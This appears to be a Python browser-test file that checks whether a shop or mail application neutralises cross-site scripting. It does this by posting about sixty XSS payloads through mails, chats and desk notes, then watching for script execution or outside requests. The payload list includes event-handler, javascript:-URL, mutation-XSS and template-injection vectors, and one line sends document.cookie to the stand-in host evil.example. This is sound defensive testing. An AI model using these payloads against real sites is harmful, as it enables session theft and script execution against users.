"""Words that try to become a program, wherever a stranger's words can stand: none runs, none is left, nobody is asked."""

from pathlib import Path

import pytest

from tests.browser import chromium
from tests.security import hunting

pytestmark = pytest.mark.browser

# Written for this test: one of each way in. `scripts/bench quality/xss --data FOLDER` walks thousands of others.
PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>", "<svg/onload=alert`4`>", "<body onload=alert(5)>",
    "<iframe src=javascript:alert(6)>", "<iframe srcdoc='<script>parent.alert(7)</script>'>", "javascript:alert(8)", "JaVaScRiPt:alert(9)",
    "java\tscript:alert(10)", "\x01javascript:alert(11)", "data:text/html,<script>alert(12)</script>", "vbscript:msgbox(13)",
    "'\"><script>__hit=14</script>", "\" onmouseover=\"alert(15)\" x=\"", "' autofocus onfocus='alert(16)", "` onerror=alert(17) `",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>", "<svg><style><img src=x onerror=alert(19)></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(20)>\">", "<template><script>alert(21)</script></template>",
    "<details open ontoggle=alert(22)>x</details>", "<video><source onerror=alert(23)></video>", "<audio src=x onerror=alert(24)>",
    "<input autofocus onfocus=alert(25)>", "<form action=javascript:alert(26)><button>x</button></form>", "<a href=javascript:alert(27)>x</a>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css';*{background:url(https://evil.example/c)}</style>", "<p style='background:url(https://evil.example/d)'>x</p>",
    "<p style='x:expression(alert(28))'>x</p>", "<object data=javascript:alert(29)></object>", "<embed src=javascript:alert(30)>",
    "<img src='https://evil.example/e.png'>", "<img srcset='https://evil.example/f.png 1x'>", "<table background='https://evil.example/g.png'><tr><td>x</table>",
    "<!--><img src=x onerror=alert(31)>-->", "<![CDATA[<script>alert(32)</script>]]>", "</textarea><script>alert(33)</script>", "</title><script>alert(34)</script>",
    "{{constructor.constructor('alert(35)')()}}", "${alert(36)}", "<mark><img src=x onerror=alert(37)></mark>", "[x](javascript:alert(38))",
    "https://evil.example/\"onmouseover=alert(39)//", "http://a<img src=x onerror=alert(40)>", "&lt;img src=x onerror=alert(41)&gt;", "&#60;script&#62;alert(42)&#60;/script&#62;",
    "<img src=x onerror=fetch('https://evil.example/'+document.cookie)>", "<svg><a xlink:href='javascript:alert(43)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(44) /></svg>", "<x onclick=alert(45)>x</x>", "\u2028<script>alert(46)</script>", "<scr\x00ipt>alert(47)</script>",
    "<a href='https://evil.example' ping='https://evil.example/h'>x</a>", "<portal src='https://evil.example'>", "<marquee onstart=alert(48)>x</marquee>",
    "<div id=root></div><div id=overlays></div>", "<form id=location><input name=href></form>",
]  # fmt: skip


async def test_none_runs_none_is_left_and_nobody_is_asked(tmp_path: Path, chromium_path: str) -> None:
    async with hunting.trap(tmp_path) as (shop, port), chromium() as browser:
        hunt = hunting.Hunt(own=(shop.desk.url + shop.shop))
        await hunting.post_mails(port, PAYLOADS)
        tokens = await hunting.say_in_chats(shop, PAYLOADS)
        await hunting.all_arrived(shop, len(PAYLOADS))
        await hunting.write_at_the_desk(shop, PAYLOADS)
        documents = await hunting.look_at_documents(browser, shop, hunt)
        await hunting.look_everywhere(browser, shop, hunt, tokens, talks_at_most=6)
        assert documents >= len(PAYLOADS) * 0.9, "the mails did not arrive"
        assert hunt.looked > documents + 30
        assert hunt.hits == []
        assert hunt.broken == []
        assert len(hunt.unread) <= hunt.looked // 10, hunt.unread
        assert hunt.words > 20_000, "the pages stayed empty"


async def test_the_watch_sees_what_it_watches_for(tmp_path: Path, chromium_path: str) -> None:
    """A page without any of our locks: every kind of hit is noticed."""
    from tests.browser import page_on

    async with chromium() as browser, page_on(browser) as page:
        hunt = hunting.Hunt(own="nowhere")
        await page.add_init_script(hunting.WATCH)
        hunt.watch(page)
        await page.goto(
            "data:text/html,<img src=x: onerror=alert(1)><a href=javascript:alert(2)>x</a><script>__hit=3</script><img src=http://127.0.0.1:9/x>"
        )
        await hunt.look(page, "the open page")
    told = " ".join(hunt.hits)
    for kind in (
        "ran XSS-HIT alert 1",
        "ran XSS-HIT __hit 3",
        "link <a href",
        "handler <img",
        "script <script",
        "asked http://127.0.0.1:9/x",
    ):
        assert kind in told, (kind, told)
